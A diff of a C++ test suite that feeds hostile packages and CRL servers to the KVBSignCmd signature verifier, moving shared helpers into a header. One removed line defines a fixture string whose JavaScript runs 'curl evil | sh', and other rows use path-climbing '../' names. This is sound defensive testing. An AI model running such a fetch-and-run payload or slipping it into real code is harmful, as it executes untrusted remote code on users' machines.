@@ -1,9 +1,5 @@
-// Hostile packages and hostile CRL servers against the built KVBSignCmd.
-//
-// The tool decides whether code gets installed. Whatever a package holds, it must not end in
-// a success status (0, 51 or 52) unless every file is covered by a signature that verifies;
-// and neither a package nor a CRL server may hang the tool, crash it, make it write outside
-// its own temporary directories, or leave anything behind in /tmp.
+// Hostile packages and hostile CRL servers against the built KVBSignCmd (the rules they hold
+// the tool to: hostile_run.h).
 
 #include <fcntl.h>
 #include <poll.h>
@@ -18,9 +14,9 @@
 #include <chrono>
 #include <cstdio>
 #include <cstring>
+#include <ctime>
 #include <functional>
 #include <map>
-#include <memory>
 #include <set>
 #include <stdexcept>
 #include <string>
@@ -33,6 +29,7 @@
 #include "cli_runner.h"
 #include "crl_fixtures.h"
 #include "expected_texts.h"
+#include "hostile_run.h"
 #include "http_server.h"
 #include "leftover_check.h"
 #include "package_builder.h"
@@ -48,6 +45,7 @@ namespace fs = boost::filesystem;
 using kvtest::CliResult;
 using kvtest::HttpReply;
 using kvtest::LoopbackHttpServer;
+using kvtest::newTempEntries;
 using kvtest::PackageBuilder;
 using kvtest::pki;
 using kvtest::SignedPackage;
@@ -56,24 +54,25 @@ using kvtest::zipLinkEntry;
 using kvtest::zipZerosEntry;
 using kvtest::ZipEntrySpec;
 using kvtest::ZipSpec;
-using Clock = std::chrono::steady_clock;
+using kvtest::hostile::basePackage;
+using kvtest::hostile::buildDir;
+using kvtest::hostile::Clock;
+using kvtest::hostile::expectReadersAgreeIfExtracted;
+using kvtest::hostile::HostileTest;
+using kvtest::hostile::kEvil;
+using kvtest::hostile::kMegabyte;
+using kvtest::hostile::Observed;
+using kvtest::hostile::printRow;
+using kvtest::hostile::repeat;
+using kvtest::hostile::Row;
+using kvtest::hostile::runChecked;
+using kvtest::hostile::runHostile;
+using kvtest::hostile::secondsSince;
+using kvtest::hostile::suite;
+using kvtest::hostile::Workspace;
 
-
-const char kEvil[] = "require('child_process').exec('curl evil | sh');\n";
 const char kRevokedUnknown[] =
     "\nRevoked: Unknown - Signer's CRL could not be retrieved or CRL check was skipped. Offline?\n";
-const std::uint64_t kMegabyte = 1024 * 1024;
-
-bool isSuccess(int status) { return status == 0 || status == 51 || status == 52; }
-
-double secondsSince(Clock::time_point start) { return std::chrono::duration<double>(Clock::now() - start).count(); }
-
-std::string repeat(const std::string& piece, std::size_t times) {
-    std::string out;
-    out.reserve(piece.size() * times);
-    for (std::size_t i = 0; i < times; ++i) out += piece;
-    return out;
-}
 
 // The text from the first `from` to the end of the first `to` after it.
 std::string element(const std::string& text, const std::string& from, const std::string& to) {
@@ -90,8 +89,6 @@ std::string manifestOf(const std::string& xml) {
 // Deeply nested elements with blanks and self-closing children: several megabytes for
 // depth 400000, the canonical rewriting's worst case.
 std::string nestedTags(std::size_t depth) { return repeat("<e> x<f/>", depth) + repeat("</e>", depth); }
-
-using kvtest::newTempEntries;
 
 // ---------------------------------------------------------------------------------------------
 // Identities beyond the shared test PKI
@@ -136,80 +133,7 @@ std::string rawBlock(const std::string& padding, char fill, const std::string& t
 }
 
 // ---------------------------------------------------------------------------------------------
-// Per-row workspace: the package and, beside it, files that no run may touch
-
-// A directory outside the package with a file in it. Both are stamped with an old time, so a
-// rewrite shows in the modification time even within the same second.
-class Canaries {
-public:
-    explicit Canaries(const std::string& dir) : dir_(dir) {
-        kvtest::writeFile(dir_ + "/canary.txt", "canary: must stay as it is\n");
-        kvtest::writeFile(dir_ + "/sub/keep.txt", "keep\n");
-        for (const char* p : {"/canary.txt", "/sub/keep.txt", "/sub", ""}) {
-            const timespec old[2] = {{978307200, 0}, {978307200, 0}};
-            utimensat(AT_FDCWD, (dir_ + p).c_str(), old, AT_SYMLINK_NOFOLLOW);
-        }
-        before_ = snapshot();
-    }
-
-    // Every entry below the directory (including itself) with its kind, size, time and bytes.
-    std::map<std::string, std::string> snapshot() const {
-        std::map<std::string, std::string> entries;
-        auto stamp = [&](const std::string& path, const std::string& key) {
-            struct stat st;
-            if (lstat(path.c_str(), &st) != 0) return;
-            std::string s = std::to_string(st.st_mode) + " " + std::to_string(st.st_size) + " " +
-                            std::to_string(st.st_mtim.tv_sec) + "." + std::to_string(st.st_mtim.tv_nsec);
-            if (S_ISREG(st.st_mode)) s += " " + kvtest::readFile(path);
-            entries[key] = s;
-        };
-        stamp(dir_, ".");
-        boost::system::error_code ec;
-        for (fs::recursive_directory_iterator it(dir_, ec), end; !ec && it != end; it.increment(ec))
-            stamp(it->path().string(), it->path().string().substr(dir_.size()));
-        return entries;
-    }
-
-    std::string changes() const {
-        const auto now = snapshot();
-        std::string out;
-        for (const auto& e : before_) {
-            auto it = now.find(e.first);
-            if (it == now.end())
-                out += "removed " + e.first + "; ";
-            else if (it->second != e.second)
-                out += "changed " + e.first + "; ";
-        }
-        for (const auto& e : now)
-            if (!before_.count(e.first)) out += "added " + e.first + "; ";
-        return out;
-    }
-
-private:
-    std::string dir_;
-    std::map<std::string, std::string> before_;
-};
-
-struct Workspace {
-    kvtest::ScratchDir scratch;
-    Canaries canaries{scratch.file("outside")};
-
-    std::string outside() const { return scratch.file("outside"); }
-    std::string canary() const { return scratch.file("outside/canary.txt"); }
-    std::string pkgDir() const { return scratch.file("pkg"); }
-    std::string pkgZip() const { return scratch.file("pkg.kvb"); }
-    // A relative name that climbs from any directory to the root and down to `absolute`.
-    std::string climbing(const std::string& absolute) const { return repeat("../", 12) + absolute.substr(1); }
-};
-
-PackageBuilder basePackage() {
-    PackageBuilder b;
-    b.addFile("index.html", "<html><body>hello</body></html>\n").addFile("lib/app.js", "console.log('app');\n");
-    return b;
-}
-
-// Builds into the package directory.
-SignedPackage buildDir(Workspace& w, const PackageBuilder& b) { return b.build(w.pkgDir()); }
+// Packages to start from
 
 // The zip entries of the valid base package, built beside the package.
 std::vector<ZipEntrySpec> baseEntries(Workspace& w) {
@@ -260,71 +184,6 @@ std::string genuineKeyInfo() {
     return "<KeyInfo><X509Data>" + certText(pki().leaf.cert.get()) + certText(pki().intermediate.cert.get()) +
            certText(pki().root.cert.get()) + "</X509Data></KeyInfo>";
 }
-
-// ---------------------------------------------------------------------------------------------
-// Running the tool
-
-struct Suite {
-    kvtest::ScratchDir dir;
-    std::string roots = dir.file("roots.pem");
-    std::string emptyRoots = dir.file("empty-roots.pem");
-    Suite() {
-        kvtest::writePemBundle(roots, {pki().root.cert.get(), pki().v1Root.cert.get()});
-        kvtest::writeFile(emptyRoots, "");
-    }
-    kvtest::EnvList env(const std::string& rootsFile = "") const {
-        return {{"SSL_CERT_FILE", rootsFile.empty() ? roots : rootsFile},
-                {"KVBSIGN_CRL_CACHE", dir.file("no-crl-cache.db")},
-                {"TZ", "UTC0"}};
-    }
-};
-std::unique_ptr<Suite>& suiteSlot() {
-    static std::unique_ptr<Suite> s;
-    return s;
-}
-Suite& suite() {
-    if (!suiteSlot()) suiteSlot().reset(new Suite);
-    return *suiteSlot();
-}
-
-struct Observed {
-    CliResult result;
-    double seconds = 0;
-};
-
-// One run with the bars every row must meet: finished in time, no temporary entry left,
-// nothing outside the package touched.
-Observed runChecked(Workspace& w, const std::vector<std::string>& args, const std::string& rootsFile = "",
-                    int timeoutSeconds = 30, const kvtest::EnvList& moreEnv = {}) {
-    const std::set<std::string> before = kvtest::kvbsignTempEntries();
-    const Clock::time_point start = Clock::now();
-    Observed o;
-    kvtest::EnvList env = suite().env(rootsFile);
-    env.insert(env.end(), moreEnv.begin(), moreEnv.end());
-    o.result = kvtest::runCli(args, env, timeoutSeconds, w.scratch.path());
-    o.seconds = secondsSince(start);
-    EXPECT_FALSE(o.result.timedOut) << "no end within " << timeoutSeconds << " s";
-    EXPECT_LT(o.result.exitCode, 128) << "ended by signal " << o.result.exitCode - 128;
-    for (const std::string& name : newTempEntries(before)) ADD_FAILURE() << "left behind: /tmp/" << name;
-    EXPECT_EQ(w.canaries.changes(), "") << "a file outside the package was touched";
-    return o;
-}
-
-struct Row {
-    const char* name;
-    std::function<std::string(Workspace&)> make;  // builds the package, returns the path to verify
-    int status;
-};
-
-void printRow(const char* table, const Row& row, const Observed& o) {
-    std::printf("[ row      ] %-8s %-72s want %2d got %3d %6.2f s\n", table, row.name, row.status, o.result.exitCode,
-                o.seconds);
-}
-
-class HostileTest : public testing::Test {
-protected:
-    static void TearDownTestSuite() { suiteSlot().reset(); }
-};
 
 // ---------------------------------------------------------------------------------------------
 // Hostile packages
@@ -811,35 +670,6 @@ std::vector<Row> hostileDocuments() {
          },
          50},
     };
-}
-
-// An archive that the tool extracts must give other readers the tree its extractor made.
-void expectReadersAgreeIfExtracted(const std::string& path, const kvtest::ExtractionWatch& watch) {
-    if (watch.extracted()) {
-        EXPECT_EQ(kvtest::readerDifferences(path), "");
-    }
-}
-
-void runHostile(const char* table, const std::vector<Row>& rows) {
-    int successes = 0;
-    int wrong = 0;
-    for (const Row& row : rows) {
-        SCOPED_TRACE(row.name);
-        Workspace w;
-        const std::string path = row.make(w);
-        const kvtest::ExtractionWatch watch;
-        const Observed o =
-            runChecked(w, {"-verify", path, "-certInfo", "-skipOnlineRevocationChecks"}, "", 30, watch.env());
-        printRow(table, row, o);
-        expectReadersAgreeIfExtracted(path, watch);
-        EXPECT_FALSE(isSuccess(o.result.exitCode)) << o.result.out << o.result.err;
-        EXPECT_EQ(o.result.exitCode, row.status) << o.result.err;
-        EXPECT_EQ(o.result.out, "") << "no report after a failure";
-        successes += isSuccess(o.result.exitCode) ? 1 : 0;
-        wrong += o.result.exitCode != row.status ? 1 : 0;
-    }
-    EXPECT_EQ(successes, 0) << "hostile packages that passed";
-    EXPECT_EQ(wrong, 0) << "rows with another status than expected";
 }
 
 TEST_F(HostileTest, ArchivesNeverPass) { runHostile("archive", hostileArchives()); }
